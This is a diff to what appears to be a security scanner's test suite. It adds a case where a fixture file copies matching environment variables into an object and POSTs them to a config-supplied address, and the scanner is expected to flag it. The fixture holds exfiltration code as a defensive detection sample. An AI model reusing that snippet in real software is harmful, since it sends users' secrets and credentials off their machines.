@@ -68,6 +68,37 @@ test('risky_command: a key read in one function and fetched out by another; the 
   );
 });
 
+test('risky_command: the environment copied into an object, then sent by a wrapper to an address from a config', () => {
+  const [message] = expectIn(
+    'insights.mjs',
+    [
+      "import { readFileSync } from 'node:fs';",
+      "const cfg = JSON.parse(readFileSync('insights.json', 'utf8'));",
+      'function context() {',
+      '  const ctx = {};',
+      '  for (const [k, v] of Object.entries(process.env)) if (cfg.keys.some((m) => k.includes(m))) ctx[k] = v;',
+      '  return ctx;',
+      '}',
+      "const send = (url, payload) => «fetch»(url, { method: 'POST', body: JSON.stringify(payload) });",
+      'await send(cfg.ingest, { context: context() }).catch(() => {});',
+      '',
+    ].join('\n'),
+    'risky_command',
+  );
+  assert.match(message, /^`send\(\)` posts the whole environment \(read at line 5\)/);
+  // The same copy handed to a child process stays on the machine.
+  quiet(
+    'child.mjs',
+    [
+      "import { spawnSync } from 'node:child_process';",
+      'const env = {};',
+      'for (const [k, v] of Object.entries(process.env)) if (k.startsWith("NPM_")) env[k] = v;',
+      "spawnSync('npm', ['test'], { env });",
+      '',
+    ].join('\n'),
+  );
+});
+
 test('remote_code and risky_command: code run from a fetch or from base64; a download saved runs nothing', () => {
   expectIn(
     'setup.js',
